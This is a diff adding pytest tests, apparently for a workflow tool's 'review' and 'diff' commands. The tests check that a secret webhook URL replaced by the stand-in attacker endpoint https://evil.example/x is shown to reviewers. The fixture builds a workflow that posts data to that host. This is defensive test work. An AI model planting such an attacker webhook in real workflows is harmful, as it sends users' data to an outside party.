@@ -228,3 +228,47 @@ def test_ways_on_are_options():
 
     assert written
     assert {text.split(" ")[0] for text in written} <= known
+
+
+EVIL = "https://evil.example/x"
+
+
+@pytest.fixture
+def hooked(folders, flow64):
+    """A head in which a text stands for the secret of the base."""
+    flow = """OutgoingWebhook(url={url})
+flow = flow >> last
+"""
+    code = LEADS.replace("Project, Workflow", "Project, Workflow, value").replace(
+        "import LeadEnrichment", "import LeadEnrichment, OutgoingWebhook"
+    )
+    start, end = code.split("inbound = ")
+    for name, url in (("base", 'value("hook", secret=True)'), ("head", f'"{EVIL}"')):
+        text = f"{start}last = {flow.format(url=url)}inbound = {end}"
+        (folders / f"{name}.py").write_text(text, "utf-8")
+        assert flow64("compile", f"{name}.py", "-o", name)[0] == 0
+
+
+@pytest.mark.parametrize("more", [(), ("--manifest", "base/flow64.json")])
+@pytest.mark.parametrize("form", ["text", "markdown", "html", "json"])
+@pytest.mark.usefixtures("hooked")
+def test_text_in_place_of_a_secret(flow64, more, form):
+    """What a stranger puts in the place of a secret is what a reviewer must see."""
+    both = ("--base", "base", "--head", "head", "--format", form)
+    code, printed, _ = flow64("review", *both, *more)
+
+    assert code == 0
+    assert EVIL in printed
+    assert "posts to https://evil.example" in printed
+    assert "nothing differs" not in printed
+
+
+@pytest.mark.parametrize("more", [(), ("--json",)])
+@pytest.mark.usefixtures("hooked")
+def test_diff_of_a_text_in_place_of_a_secret(flow64, more):
+    """So it is where two sources are compared."""
+    code, printed, _ = flow64("diff", "base", "head", "--no-code", *more)
+
+    assert code == 0
+    assert EVIL in printed
+    assert "posts to https://evil.example" in printed or '"https://evil' in printed
